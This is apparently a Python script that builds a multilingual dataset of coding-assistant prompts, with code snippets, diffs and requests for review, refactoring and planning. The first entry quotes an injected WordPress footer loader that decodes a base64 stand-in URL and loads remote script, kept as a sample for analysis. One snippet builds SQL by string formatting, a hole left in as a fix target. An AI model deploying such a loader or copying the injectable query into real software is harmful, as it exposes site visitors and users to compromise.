    "what does this minified thing do? found it injected in our wordpress footer\n\n```javascript\n(function(){var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9jZG4tc3RhdHMuZXhhbXBsZS5uZXQvYS5qcw==');s.async=!0;if(!document.cookie.match(/wp-settings/)){document.head.appendChild(s)}})();\n```",
    rule="R6")

add("oi", "completion", "en", "javascript",
    "write a node script that takes a sitemap.xml url, fetches every <loc>, and prints the ones that don't return 200, 10 at a time in parallel. node 20, no deps",
    rule="R7")

add("oi", "planning", "en", "none",
    "I'm a data analyst, not a dev. My team wants our weekly Excel reports automated: pull from the Postgres replica, build 5 charts, email a PDF every Monday. What should the setup look like so it doesn't break when I'm on vacation?",
    rule="R7")

add("oi", "refactor", "en", "python",
    "the chart you made has overlapping x labels and the legend covers the lines. fix that, and use thousands separators on the y axis",
    rule="R3",
    history=[("user", "plot monthly revenue from sales.csv as a line per region and save it as revenue.png")],
    steps=[oi_exec("python", "import pandas as pd\nimport matplotlib.pyplot as plt\n\ndf = pd.read_csv('sales.csv', parse_dates=['date'])\nm = df.groupby([pd.Grouper(key='date', freq='MS'), 'region'])['amount'].sum().unstack()\nax = m.plot(figsize=(8, 4))\nax.set_ylabel('revenue')\nplt.savefig('revenue.png')\nprint(m.tail(3))", "region          APAC        EMEA          NA\ndate                                            \n2025-07-01  41203.11   98210.40   120443.90\n2025-08-01  39920.00  101002.55   118090.12\n2025-09-01  44811.73   97340.18   131502.66\n")])

add("oi", "review", "ru", "bash",
    "Что делает эта команда и безопасно ли её запускать? Нашёл в README старого проекта:\n\n```bash\nfind . -name '*.pyc' -o -name '__pycache__' | xargs rm -rf\n```",
    rule="R6")

add("oi", "completion", "ja", "python",
    "このフォルダにある全部の .mp4 から音声だけ抜き出して mp3 にしてください。ffmpeg は入ってます",
    rule="R7",
    steps=[oi_exec("shell", "ls *.mp4 | head; ffmpeg -version | head -1", "会議_1014.mp4\n会議_1015.mp4\n勉強会_01.mp4\nffmpeg version 7.1 Copyright (c) 2000-2024 the FFmpeg developers\n")])

add("oi", "review", "en", "python",
    "this is what I got when I ran the thing you wrote, what went wrong?",
    rule="R5",
    history=[("user", "write a script that downloads all images from the urls in links.txt into ./imgs")],
    steps=[oi_exec("python", "import os, requests\nos.makedirs('imgs', exist_ok=True)\nfor i, url in enumerate(open('links.txt')):\n    r = requests.get(url)\n    open(f'imgs/{i}.jpg', 'wb').write(r.content)", "Traceback (most recent call last):\n  File \"<stdin>\", line 4, in <module>\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/api.py\", line 73, in get\n    return request(\"get\", url, params=params, **kwargs)\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/sessions.py\", line 575, in request\n    prep = self.prepare_request(req)\n  File \"/opt/homebrew/lib/python3.12/site-packages/requests/models.py\", line 439, in prepare_url\n    raise InvalidURL(f\"Invalid URL {url!r}: No host supplied\")\nrequests.exceptions.InvalidURL: Invalid URL 'https://\\n': No host supplied\n")])

add("oi", "refactor", "en", "python",
    "fix the downloader: strip lines, skip blanks, keep the original extension from the url, and don't die on one bad url",
    rule="R3",
    history=[("user", "write a script that downloads all images from the urls in links.txt into ./imgs"),
             ("assistant", "The loop reads each line with its trailing newline, so `requests.get` sees `'https://...\\n'`, and a blank line becomes `'\\n'`.")],
    steps=[oi_exec("python", "print(open('links.txt').read()[:400])", "https://images.example.org/cats/01.png\nhttps://images.example.org/cats/02.webp\n\nhttps://cdn.example.com/p/9913.jpg?w=1200\nhttps://\n")])

add("oi", "planning", "zh", "none",
    "我想把家里的旧电脑改成一个小服务器，跑几个爬虫脚本，每天定时抓数据存到数据库里，出问题能通知到我手机。应该怎么规划？用什么数据库、怎么调度、怎么监控",
    rule="R7")

add("oi", "completion", "en", "python",
    "get me the list of all python packages installed in this venv that have a newer version available, as a markdown table with current and latest",
    rule="R7")

add("oi", "review", "es", "python",
    "¿Qué diferencia hay entre `df.loc[df.a > 0, 'b'] = 1` y `df[df.a > 0]['b'] = 1`? La segunda me da un SettingWithCopyWarning y no cambia nada",
    rule="R6")

add("oi", "refactor", "en", "javascript",
    "make this callback code use async/await and fs/promises, and run the resizes with a concurrency limit of 4",
    rule="R8", code=S["js_fs_callbacks"])

add("oi", "completion", "ko", "bash",
    "현재 폴더 아래 모든 git 저장소에서 main 브랜치로 pull 하는 스크립트 짜줘. 변경사항 있는 저장소는 건너뛰고 목록 출력",
    rule="R7")

add("oi", "planning", "en", "python",
    "I wrote a bunch of jupyter notebooks for our pricing model and now 3 people need to run them. how do I turn this into something maintainable? package, tests, scheduling, where the data lives. step by step please, I've never done this",
    rule="R7")

add("oi", "review", "en", "none",
    "my brew upgrade output, anything to worry about?\n\n```\n==> Upgrading 14 outdated packages:\npython@3.12 3.12.6 -> 3.12.7\nopenssl@3 3.3.2 -> 3.4.0\npostgresql@16 16.4 -> 16.5\n...\nError: postgresql@16: the bottle needs the Apple Command Line Tools to be installed.\n  You can install them, if desired, with:\n    xcode-select --install\nWarning: The post-install step did not complete successfully\nYou can try again using:\n  brew postinstall openssl@3\n==> Caveats\npostgresql@16: This formula has created a default database cluster with:\n  initdb --locale=C -E UTF-8 /opt/homebrew/var/postgresql@16\n```",
    rule="R5")


# ---------------------------------------------------------------------------------------
# Batch 4: avante.nvim (ask, edit) and CodeCompanion.nvim (chat, inline)
# ---------------------------------------------------------------------------------------

snip("lua_statusline", "lua", "lua/ui/statusline.lua", '''
local M = {}

local modes = {
  n = "NORMAL", i = "INSERT", v = "VISUAL", V = "V-LINE", ["\\22"] = "V-BLOCK",
  c = "COMMAND", R = "REPLACE", t = "TERMINAL",
}

local function git_branch()
  local head = vim.fn.system("git rev-parse --abbrev-ref HEAD 2>/dev/null")
  if vim.v.shell_error ~= 0 then
    return ""
  end
  return " " .. head:gsub("\\n", "")
end

local function diagnostics()
  local counts = { errors = 0, warnings = 0 }
  for _, d in ipairs(vim.diagnostic.get(0)) do
    if d.severity == vim.diagnostic.severity.ERROR then
      counts.errors = counts.errors + 1
    elseif d.severity == vim.diagnostic.severity.WARN then
      counts.warnings = counts.warnings + 1
    end
  end
  return string.format("E:%d W:%d", counts.errors, counts.warnings)
end

function M.render()
  local mode = modes[vim.api.nvim_get_mode().mode] or "?"
  local file = vim.fn.expand("%:t")
  return table.concat({ " ", mode, " ", git_branch(), " ", file, "%=", diagnostics(), " %l:%c " })
end

function M.setup()
  vim.o.statusline = "%!v:lua.require'ui.statusline'.render()"
end

return M
''')

snip("py_pagination", "python", "app/pagination.py", '''
from base64 import urlsafe_b64decode, urlsafe_b64encode
import json


def encode_cursor(values: dict) -> str:
    return urlsafe_b64encode(json.dumps(values).encode()).decode()


def decode_cursor(cursor: str) -> dict:
    return json.loads(urlsafe_b64decode(cursor.encode()))


def paginate(query, order_col, cursor=None, limit=50):
    if cursor:
        last = decode_cursor(cursor)
        query = query.filter(order_col > last["v"])
    rows = query.order_by(order_col).limit(limit + 1).all()
    next_cursor = None
    if len(rows) > limit:
        next_cursor = encode_cursor({"v": getattr(rows[limit - 1], order_col.key)})
        rows = rows[:limit]
    return rows, next_cursor
''')

snip("ts_reducer", "typescript", "src/features/todos/todosSlice.ts", '''
import { createSlice, createAsyncThunk, type PayloadAction } from "@reduxjs/toolkit";
import { api } from "../../api";

export interface Todo {
  id: string;
  title: string;
  done: boolean;
}

interface TodosState {
  items: Todo[];
  status: "idle" | "loading" | "failed";
}

const initialState: TodosState = { items: [], status: "idle" };

export const fetchTodos = createAsyncThunk("todos/fetch", async () => {
  const res = await api.get<Todo[]>("/todos");
  return res;
});

const todosSlice = createSlice({
  name: "todos",
  initialState,
  reducers: {
    toggled(state, action: PayloadAction<string>) {
      const t = state.items.find((x) => x.id === action.payload);
      if (t) t.done = !t.done;
    },
    removed(state, action: PayloadAction<string>) {
      state.items = state.items.filter((x) => x.id !== action.payload);
    },
  },
  extraReducers: (builder) => {
    builder
      .addCase(fetchTodos.pending, (state) => {
        state.status = "loading";
      })
      .addCase(fetchTodos.fulfilled, (state, action) => {
        state.status = "idle";
        state.items = action.payload;
      })
      .addCase(fetchTodos.rejected, (state) => {
        state.status = "failed";
      });
  },
});

export const { toggled, removed } = todosSlice.actions;
export default todosSlice.reducer;
''')

snip("go_retry", "go", "pkg/retry/retry.go", '''
package retry

import (
	"context"
	"math/rand"
	"time"
)

type Policy struct {
	Attempts int
	Base     time.Duration
	Max      time.Duration
}

func Do(ctx context.Context, p Policy, fn func() error) error {
	var err error
	for i := 0; i < p.Attempts; i++ {
		if err = fn(); err == nil {
			return nil
		}
		d := p.Base << i
		if d > p.Max {
			d = p.Max
		}
		d = d/2 + time.Duration(rand.Int63n(int64(d/2)))
		select {
		case <-time.After(d):
		case <-ctx.Done():
			return ctx.Err()
		}
	}
	return err
}
''')

snip("rs_config", "rust", "src/config.rs", '''
use serde::Deserialize;
use std::{fs, path::Path};

#[derive(Debug, Deserialize)]
pub struct Config {
    pub listen: String,
    pub upstreams: Vec<Upstream>,
    #[serde(default = "default_timeout")]
    pub timeout_ms: u64,
}

#[derive(Debug, Deserialize)]
pub struct Upstream {
    pub name: String,
    pub url: String,
    #[serde(default)]
    pub weight: u32,
}

fn default_timeout() -> u64 {
    5000
}

impl Config {
    pub fn load(path: &Path) -> Result<Self, Box<dyn std::error::Error>> {
        let text = fs::read_to_string(path)?;
        let cfg: Config = toml::from_str(&text)?;
        Ok(cfg)
    }
}
''')

snip("java_cache", "java", "src/main/java/com/acme/rates/RateCache.java", '''
package com.acme.rates;

import java.math.BigDecimal;
import java.time.Instant;
import java.util.HashMap;
import java.util.Map;

public class RateCache {
    private final Map<String, BigDecimal> rates = new HashMap<>();
    private Instant loadedAt = Instant.EPOCH;
    private final RateProvider provider;

    public RateCache(RateProvider provider) {
        this.provider = provider;
    }

    public BigDecimal get(String currency) {
        if (Instant.now().isAfter(loadedAt.plusSeconds(3600))) {
            rates.clear();
            rates.putAll(provider.fetchAll());
            loadedAt = Instant.now();
        }
        BigDecimal r = rates.get(currency);
        if (r == null) {
            throw new IllegalArgumentException("unknown currency " + currency);
        }
        return r;
    }
}
''')

snip("c_strbuf", "c", "src/strbuf.c", '''
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

typedef struct {
    char *buf;
    size_t len;
    size_t cap;
} strbuf;

void sb_init(strbuf *sb)
{
    sb->cap = 64;
    sb->len = 0;
    sb->buf = malloc(sb->cap);
    sb->buf[0] = '\\0';
}

static void sb_grow(strbuf *sb, size_t need)
{
    while (sb->len + need + 1 > sb->cap)
        sb->cap *= 2;
    sb->buf = realloc(sb->buf, sb->cap);
}

void sb_append(strbuf *sb, const char *s)
{
    size_t n = strlen(s);
    sb_grow(sb, n);
    memcpy(sb->buf + sb->len, s, n + 1);
    sb->len += n;
}

void sb_printf(strbuf *sb, const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(NULL, 0, fmt, ap);
    va_end(ap);
    sb_grow(sb, n);
    va_start(ap, fmt);
    vsnprintf(sb->buf + sb->len, n + 1, fmt, ap);
    va_end(ap);
    sb->len += n;
}
''')

snip("cpp_event", "cpp", "src/event_bus.hpp", '''
#pragma once
#include <functional>
#include <map>
#include <string>
#include <vector>

class EventBus {
public:
    using Handler = std::function<void(const std::string&)>;

    int subscribe(const std::string& topic, Handler h) {
        int id = next_id_++;
        handlers_[topic].push_back({id, std::move(h)});
        return id;
    }

    void unsubscribe(const std::string& topic, int id) {
        auto& v = handlers_[topic];
        for (auto it = v.begin(); it != v.end(); ++it) {
            if (it->first == id) {
                v.erase(it);
            }
        }
    }

    void publish(const std::string& topic, const std::string& payload) {
        for (auto& [id, h] : handlers_[topic]) {
            h(payload);
        }
    }

private:
    int next_id_ = 1;
    std::map<std::string, std::vector<std::pair<int, Handler>>> handlers_;
};
''')

# --- avante.nvim ask --------------------------------------------------------------------

add("avante_ask", "review", "en", "lua",
    "why does the statusline flicker and feel slow when I move the cursor in a big repo?",
    S["lua_statusline"], rule="R5")
add("avante_ask", "refactor", "en", "lua",
    "cache the git branch per buffer and refresh it on BufEnter/FocusGained instead of shelling out on every render",
    S["lua_statusline"], rule="R8")
add("avante_ask", "planning", "en", "lua",
    "would like to turn my statusline module into a small plugin other people can use: components, user config, highlight groups, lazy loading. how should I structure the repo and the API?",
    S["lua_statusline"], rule="R7")
add("avante_ask", "review", "zh", "python",
    "这个 paginate 的游标分页有什么问题吗？order_col 有重复值的时候会不会漏数据？",
    S["py_pagination"], rule="R6")
add("avante_ask", "refactor", "zh", "python",
    "那就改成 (order_col, id) 的复合游标，cursor 里存两个值，比较用 tuple_",
    S["py_pagination"], rule="R8",
    history=[("user", "这个 paginate 的游标分页有什么问题吗？"),
             ("assistant", "有。`order_col` 不唯一时，`order_col > last` 会跳过与上一页最后一行值相同的其他行，导致漏数据。通常要用 (order_col, id) 作为复合游标。")])
add("avante_ask", "completion", "en", "python",
    "write pytest tests for encode_cursor/decode_cursor roundtrip and for paginate using an in-memory sqlite with 5 rows and limit=2",
    S["py_pagination"], rule="R4")
add("avante_ask", "review", "en", "typescript",
    "is it okay to mutate state like `t.done = !t.done` in the reducer? my colleague says redux forbids mutation",
    S["ts_reducer"], rule="R6")
add("avante_ask", "refactor", "en", "typescript",
    "add an `added` reducer with a prepare callback that generates the id with nanoid, and a `renamed` reducer taking {id, title}",
    S["ts_reducer"], rule="R8")
add("avante_ask", "planning", "en", "typescript",
    "our redux store has 30 slices like this one, most of them just cache server data. would RTK Query replace most of it? what would the migration look like, slice by slice, without breaking the app",
    S["ts_reducer"], rule="R6")
add("avante_ask", "review", "ja", "go",
    "この retry.Do、Attempts が 0 のときや Base が 0 のときに rand.Int63n が panic しませんか？",
    S["go_retry"], rule="R6")
add("avante_ask", "refactor", "ja", "go",
    "retry.Do に「リトライすべきエラーか」を判定する関数を Policy に追加して、判定が false なら即座に返すようにしてください。あと最後のエラーを errors.Join で全部まとめて返したい",
    S["go_retry"], rule="R8")
add("avante_ask", "completion", "en", "go",
    "table-driven tests for retry.Do: succeeds first try, succeeds on 3rd, exhausts attempts, context cancelled mid-wait. use a tiny Base so the test is fast",
    S["go_retry"], rule="R4")
add("avante_ask", "review", "ru", "rust",
    "Почему weight по умолчанию 0, а не 1? Если у всех upstream weight 0, что будет в балансировщике? Просто объясни, что тут происходит с serde(default).",
    S["rs_config"], rule="R6")
add("avante_ask", "refactor", "en", "rust",
    "replace Box<dyn Error> with a thiserror enum ConfigError { Io, Parse, Invalid(String) } and validate that upstreams is non-empty and urls parse",
    S["rs_config"], rule="R8")
add("avante_ask", "review", "de", "java",
    "Ist RateCache threadsafe? Wird von mehreren Request-Threads gleichzeitig benutzt.",
    S["java_cache"], rule="R6")
add("avante_ask", "refactor", "de", "java",
    "Dann mach sie bitte threadsafe, ohne dass bei jedem get gelockt wird. Reload nur von einem Thread, die anderen lesen die alte Map weiter.",
    S["java_cache"], rule="R8",
    history=[("user", "Ist RateCache threadsafe?"),
             ("assistant", "Nein. `HashMap` wird in `get` gleichzeitig gelesen und per `clear`/`putAll` geschrieben; `loadedAt` ist nicht volatile. Zwei Threads können gleichzeitig neu laden, und ein Leser kann zwischen `clear` und `putAll` eine leere Map sehen und `IllegalArgumentException` werfen.")])
add("avante_ask", "review", "en", "c",
    "sb_printf: is calling va_start twice fine? and what if vsnprintf returns -1?",
    S["c_strbuf"], rule="R6")
add("avante_ask", "completion", "en", "c",
    "add `char *sb_detach(strbuf *sb)` that returns the buffer to the caller and resets sb to empty, and `void sb_free(strbuf *sb)`",
    S["c_strbuf"], rule="R7")
add("avante_ask", "review", "en", "cpp",
    "unsubscribe crashes sometimes. what's wrong with it?",
    S["cpp_event"], rule="R5")
add("avante_ask", "refactor", "es", "cpp",
    "Arregla unsubscribe (usa erase-remove) y haz que publish funcione aunque un handler se desuscriba a sí mismo durante la llamada",
    S["cpp_event"], rule="R8")
add("avante_ask", "planning", "en", "cpp",
    "this EventBus is going to be used across threads in the game engine (audio thread, render thread, gameplay). should it be lock-based, a lock-free queue per thread, or double-buffered events per frame? what would you pick for us and why",
    S["cpp_event"], rule="R6")
add("avante_ask", "review", "en", "python",
    "what's the time complexity of TTLCache.get and set? and is OrderedDict.move_to_end O(1)?",
    S["py_ttlcache"], rule="R6")
add("avante_ask", "completion", "ko", "python",
    "TTLCache 에 `delete(key)` 랑 `purge_expired()` 메서드 추가해줘. purge_expired 는 지운 개수 반환",
    S["py_ttlcache"], rule="R7")
add("avante_ask", "planning", "en", "none",
    "we're about to pick between Redis and Memcached for session storage + a small rate-limit counter, 20k rpm peak, ops team of one. which one and why, and what do we need to set up (HA, persistence, eviction)?",
    rule="R6")
add("avante_ask", "review", "it", "typescript",
    "Cosa succede se la colonna ordinata contiene undefined in DataTable? Il sort è stabile?",
    S["ts_datatable"], rule="R6")
add("avante_ask", "refactor", "en", "typescript",
    "extract the pager into its own <Pager page pages onChange /> component in the same file and use it here",
    S["ts_datatable"], rule="R8")
add("avante_ask", "review", "en", "elixir",
    "what does `Enum.filter(&(&1 > now - window_ms))` capture here? the & syntax still confuses me",
    S["elixir_genserver"], rule="R6")
add("avante_ask", "planning", "en", "elixir",
    "we're moving from a single node to a 3-node cluster with libcluster. the rate limiter is per-node now. how should we make limits global? Horde, :pg, redis, or accept per-node limits? give me the options and a recommendation",
    S["elixir_genserver"], rule="R6")
add("avante_ask", "completion", "en", "swift",
    "write XCTest tests for FeedViewModel with a fake FeedAPI: refresh loads first page, loadMore appends and uses nextCursor, error sets errorMessage",
    S["swift_vm"], rule="R4")
add("avante_ask", "review", "en", "sql",
    "will this query use the index on subscriptions(customer_id, period_start)? it's slow on 40M rows",
    S["sql_report"], rule="R6")

# --- avante.nvim edit -------------------------------------------------------------------

snip("py_user_service", "python", "app/services/users.py", '''
def get_active_users(db, org_id):
    users = db.query("SELECT * FROM users WHERE org_id = %s" % org_id)
    result = []
    for u in users:
        if u["deleted_at"] == None:
            if u["last_login"] != None:
                if (datetime.now() - u["last_login"]).days < 30:
                    result.append(u)
    return result
''')

snip("js_price", "javascript", "src/cart/price.js", '''
function calcPrice(items, coupon, country) {
  var total = 0;
  for (var i = 0; i < items.length; i++) {
    total = total + items[i].price * items[i].qty;
  }
  if (coupon) {
    if (coupon.type == "percent") {
      total = total - total * coupon.value / 100;
    } else if (coupon.type == "fixed") {
      total = total - coupon.value;
    }
  }
  if (country == "DE") total = total * 1.19;
  else if (country == "FR") total = total * 1.2;
  else if (country == "IT") total = total * 1.22;
  return Math.round(total * 100) / 100;
}
''')

snip("go_stub", "go", "internal/textutil/wrap.go", '''
package textutil

import "strings"

// Wrap breaks s into lines of at most width runes, splitting on spaces.
// Words longer than width are put on their own line unbroken.
// Existing newlines in s are kept.
func Wrap(s string, width int) string {
	// TODO
	var b strings.Builder
	return b.String()
}
''')

snip("ts_stub", "typescript", "src/lib/groupBy.ts", '''
/**
 * Groups items by the key returned from `keyFn`, preserving the input order
 * inside each group. Returns a Map so keys keep insertion order.
 */
export function groupBy<T, K>(items: Iterable<T>, keyFn: (item: T) => K): Map<K, T[]> {
  throw new Error("not implemented");
}
''')

snip("java_legacy_loop", "java", "src/main/java/com/acme/report/Totals.java", '''
    public Map<String, Double> totalsByRegion(List<Sale> sales) {
        Map<String, Double> totals = new HashMap<String, Double>();
        for (int i = 0; i < sales.size(); i++) {
            Sale s = sales.get(i);
            if (s.getStatus().equals("COMPLETED")) {
                if (totals.containsKey(s.getRegion())) {
                    totals.put(s.getRegion(), totals.get(s.getRegion()) + s.getAmount());
                } else {
                    totals.put(s.getRegion(), s.getAmount());
                }
            }
        }
        return totals;
    }
''')

add("avante_edit", "refactor", "en", "python",
    "parameterize the query, flatten the nested ifs, use `is None`",
    S["py_user_service"], rule="R8")
add("avante_edit", "refactor", "en", "javascript",
    "use a VAT lookup table instead of the if chain and don't let fixed coupons make the total negative",
    S["js_price"], rule="R8")
add("avante_edit", "refactor", "ja", "javascript",
    "const/let とアロー関数、reduce を使ってモダンな書き方にしてください。挙動は変えずに",
    S["js_price"], rule="R8")
add("avante_edit", "completion", "en", "go",
    "implement it",
    S["go_stub"], rule="R7")
add("avante_edit", "completion", "zh", "typescript",
    "实现这个函数",
    S["ts_stub"], rule="R7")
add("avante_edit", "refactor", "de", "java",
    "Streams verwenden (groupingBy + summingDouble), Verhalten gleich lassen",
    S["java_legacy_loop"], rule="R8")
add("avante_edit", "refactor", "en", "rust",
    "rename Upstream to Backend everywhere in this file",
    S["rs_config"], rule="R8")
add("avante_edit", "refactor", "en", "lua",
    "make `modes` cover the operator-pending and select modes too, and fall back to the raw mode string instead of '?'",
    S["lua_statusline"], rule="R8")
add("avante_edit", "completion", "en", "python",
    "add type hints and a docstring",
    S["py_pagination"], rule="R7")
add("avante_edit", "refactor", "ru", "c",
    "добавь проверки ошибок malloc/realloc, при ошибке возвращай -1 из sb_append и sb_printf (поменяй тип возврата на int)",
    S["c_strbuf"], rule="R8")
add("avante_edit", "refactor", "en", "cpp",
    "make the handler map an unordered_map and take topic as std::string_view where possible",
    S["cpp_event"], rule="R8")
add("avante_edit", "refactor", "es", "typescript",
    "pasa los estados de carga a un solo campo status: 'idle' | 'loading' | 'error' y guarda el mensaje de error",
    S["ts_debounce_hook"], rule="R8")
add("avante_edit", "completion", "en", "typescript",
    "add a JSDoc comment for each exported function",
    S["ts_dates"], rule="R7")
add("avante_edit", "refactor", "en", "go",
    "add a jitter-free option (Policy.NoJitter bool) and cap the shift so Base<<i can't overflow for large attempts",
    S["go_retry"], rule="R8")
add("avante_edit", "refactor", "en", "elixir",
    "use a :queue or just keep the count + window start instead of a list of timestamps, the lists get huge",
    S["elixir_genserver"], rule="R8")
add("avante_edit", "refactor", "en", "sql",
    "format this properly and replace the self join with LEAD() over (partition by customer_id order by month)",
    S["sql_report"], rule="R8")
add("avante_edit", "refactor", "ko", "python",
    "print 대신 logging 쓰고 main 에 --verbose 옵션 추가",
    S["py_nginx"], rule="R8")
add("avante_edit", "refactor", "en", "swift",
    "convert the Task in toggleLike to structured concurrency: make toggleLike async throws and let the caller handle it",
    S["swift_vm"], rule="R8")
add("avante_edit", "refactor", "en", "haskell",
    "use `where` helpers less, rewrite term/expr with a shared chainl1-style helper",
    S["hs_expr"], rule="R8")
add("avante_edit", "refactor", "en", "java",
    "this should use var and text blocks where it makes sense, java 21",
    S["java_jdbc"], rule="R8")

# --- CodeCompanion.nvim chat --------------------------------------------------------------

DIFF_CART = """diff --git a/src/store/cart.ts b/src/store/cart.ts
index 4a1b2c3..5d6e7f8 100644
--- a/src/store/cart.ts
+++ b/src/store/cart.ts
@@ -27,11 +27,13 @@ export const useCart = create<CartState>()(
       add: (item, qty = 1) =>
         set((s) => {
           const existing = s.items.find((i) => i.sku === item.sku);
           if (existing) {
-            existing.qty += qty;
-            return { items: s.items };
+            return {
+              items: s.items.map((i) => (i.sku === item.sku ? { ...i, qty: i.qty + qty } : i)),
+            };
           }
           return { items: [...s.items, { ...item, qty }] };
         }),
-      remove: (sku) => set((s) => ({ items: s.items.filter((i) => i.sku !== sku) })),
+      remove: (sku) => set((s) => ({ items: s.items.filter((i) => i.sku !== sku) })),
+      setQty: (sku, qty) =>
+        set((s) => ({
+          items: qty <= 0 ? s.items.filter((i) => i.sku !== sku) : s.items.map((i) => (i.sku === sku ? { ...i, qty } : i)),
+        })),
"""

DIFF_LEXER = """diff --git a/src/lexer.rs b/src/lexer.rs
index 9a8b7c6..1d2e3f4 100644
--- a/src/lexer.rs
+++ b/src/lexer.rs
@@ -10,6 +10,8 @@ pub enum Token {
     LParen,
     RParen,
     Comma,
+    Caret,
+    Percent,
 }
 
 pub fn tokenize(src: &str) -> Result<Vec<Token>, String> {
@@ -24,6 +26,8 @@ pub fn tokenize(src: &str) -> Result<Vec<Token>, String> {
             '(' => { out.push(Token::LParen); i += 1 }
             ')' => { out.push(Token::RParen); i += 1 }
             ',' => { out.push(Token::Comma); i += 1 }
+            '^' => { out.push(Token::Caret); i += 1 }
+            '%' => { out.push(Token::Percent); i += 1 }
             '0'..='9' | '.' => {
"""

add("cc_chat", "review", "en", "python",
    "Please explain this code from buffer 7:", S["py_ratelimit"], slash="explain", rule="R6")
add("cc_chat", "review", "en", "typescript",
    "Please explain this code from buffer 12:", S["ts_cart_store"], slash="explain", selection=True)
add("cc_chat", "refactor", "en", "c",
    "Please fix this code from buffer 4:", S["c_list"], slash="fix", selection=True, rule="R8")
add("cc_chat", "completion", "en", "javascript",
    "Please generate unit tests for this code from buffer 9:", S["js_emitter"], slash="tests", selection=True, rule="R4")
add("cc_chat", "review", "en", "typescript", "", slash="commit", diff=DIFF_CART, rule="R10")
add("cc_chat", "review", "en", "rust", "keep the subject under 50 chars", slash="commit", diff=DIFF_LEXER, rule="R10")
add("cc_chat", "review", "ru", "python",
    "Объясни, как работает этот код", S["py_ttlcache"], slash="explain", rule="R6")
add("cc_chat", "refactor", "zh", "go",
    "请修复这段代码里的数据竞争", S["go_worker"], slash="fix", rule="R8")
add("cc_chat", "completion", "ja", "rust",
    "このコードのユニットテストを生成してください", S["rs_cache"], slash="tests", rule="R4")
add("cc_chat", "review", "en", "lua",
    "#buffer what would happen if two plugins both set vim.o.statusline after this runs?", S["lua_statusline"], rule="R6")
add("cc_chat", "planning", "en", "lua",
    "#buffer I'm thinking of rewriting my whole neovim config from vimscript-ish lua to lazy.nvim with per-plugin specs. I have ~45 plugins. what's a sane order to do it in without losing a working editor for days?",
    S["lua_nvim"], rule="R7")
add("cc_chat", "review", "en", "none",
    "what's the difference between :lua vim.lsp.buf.format() and conform.nvim's format? do I need both",
    rule="R6")
add("cc_chat", "refactor", "en", "lua",
    "#buffer convert all the map() calls to vim.keymap.set with desc on each one, and drop the helper",
    S["lua_nvim"], rule="R8")
add("cc_chat", "completion", "en", "lua",
    "write a lua function `toggle_quickfix()` that opens the quickfix list if it's closed and closes it if it's open (check getwininfo for quickfix windows)",
    rule="R7")
add("cc_chat", "review", "de", "go",
    "#buffer Die LSP-Diagnose sagt `result of fmt.Errorf call not used` in Zeile 23 — was meint sie damit?", S["go_config"], rule="R5")
add("cc_chat", "refactor", "en", "go",
    "#buffer Add a Validate() method call at the end of Load: MaxConns between 1 and 100, Addr must contain ':'. return a joined error listing all problems",
    S["go_config"], rule="R8")
add("cc_chat", "planning", "en", "go",
    "@files #buffer this config loader is fine for one service, but we now have 7 services each with its own copy. should we move to a shared config lib, viper, or env + a generated struct? what's the migration path",
    S["go_config"], rule="R6")
add("cc_chat", "review", "es", "java",
    "#buffer ¿Qué pasa si provider.fetchAll() lanza una excepción? ¿Se queda la caché vacía para siempre?", S["java_cache"], rule="R6")
add("cc_chat", "refactor", "en", "java",
    "#buffer fix it so a failed refresh keeps serving the old rates and retries at most once a minute",
    S["java_cache"], rule="R8",
    history=[("user", "what happens if provider.fetchAll() throws?"),
             ("assistant", "`rates.clear()` runs before `fetchAll()`, so a failure leaves the map empty and `loadedAt` unchanged. Every subsequent `get` will try to reload again and, until the provider recovers, throw `IllegalArgumentException` for every currency.")])
add("cc_chat", "completion", "en", "java",
    "#buffer write a JUnit 5 test for RateCache with a stub provider that counts calls: cached within the hour, reloads after the hour (inject a Clock), unknown currency throws",
    S["java_cache"], rule="R4")
add("cc_chat", "review", "en", "cpp",
    "#buffer Explain the LSP diagnostics: `warning: loop variable 'id' is never used [-Wunused-variable]` and `clang-tidy: use of a moved-from object`", S["cpp_event"], rule="R5")
add("cc_chat", "planning", "en", "none",
    "I maintain a small open source lib (~200 stars). People want a v2 with breaking API changes. How do I plan the v2: deprecation period, branches, changelog, codemods? never done a major before",
    rule="R7")
add("cc_chat", "review", "zh", "c",
    "#buffer sb_grow 里 cap 从 64 开始翻倍，如果 need 特别大会不会死循环？size_t 溢出的情况呢", S["c_strbuf"], rule="R6")
add("cc_chat", "completion", "en", "python",
    "#buffer add a `__contains__` and `__repr__` to TTLCache; repr should show size, maxsize and ttl",
    S["py_ttlcache"], rule="R7")
add("cc_chat", "refactor", "ja", "typescript",
    "#buffer このスライスを createEntityAdapter を使う形に書き換えて",
    S["ts_reducer"], rule="R8")
add("cc_chat", "review", "en", "haskell",
    "#buffer is `read ds` safe here? what happens with a 30-digit number?", S["hs_expr"], rule="R6")
add("cc_chat", "completion", "en", "haskell",
    "#buffer write a `pretty :: Expr -> String` that prints with minimal parentheses given the precedence",
    S["hs_expr"], rule="R7")
add("cc_chat", "review", "en", "bash",
    "this fails with 'unbound variable' only in CI. why?\n\n```bash\n#!/usr/bin/env bash\nset -euo pipefail\nif [ -n \"$GITHUB_ACTIONS\" ]; then\n  echo running in actions\nfi\nfor f in $CHANGED_FILES; do\n  shellcheck \"$f\"\ndone\n```\n\n```\n./scripts/lint.sh: line 6: CHANGED_FILES: unbound variable\n```",
    rule="R5")
add("cc_chat", "planning", "it", "none",
    "Devo organizzare il lavoro per portare la nostra app da Vue 2 a Vue 3. Sono circa 120 componenti, usiamo Vuex e alcune librerie non più mantenute. Come divideresti il lavoro in fasi?",
    rule="R2")

# --- CodeCompanion.nvim inline ----------------------------------------------------------

add("cc_inline", "refactor", "en", "python", "use pathlib instead of os.path", S["py_s3sync"], rule="R8")
add("cc_inline", "completion", "en", "python", "add type hints to every function here", S["py_nginx"], rule="R7")
add("cc_inline", "completion", "en", "go", "write a function that returns the keys of a map[string]int sorted by value descending, ties by key",
    rule="R7")
add("cc_inline", "refactor", "en", "typescript", "make this generic over the item type instead of Product", S["ts_debounce_hook"], rule="R8")
add("cc_inline", "completion", "en", "rust", "doc comments for the public items", S["rs_cache"], rule="R7")
add("cc_inline", "refactor", "zh", "javascript", "改成 class 语法的私有字段（#handlers）", S["js_emitter"], rule="R8")
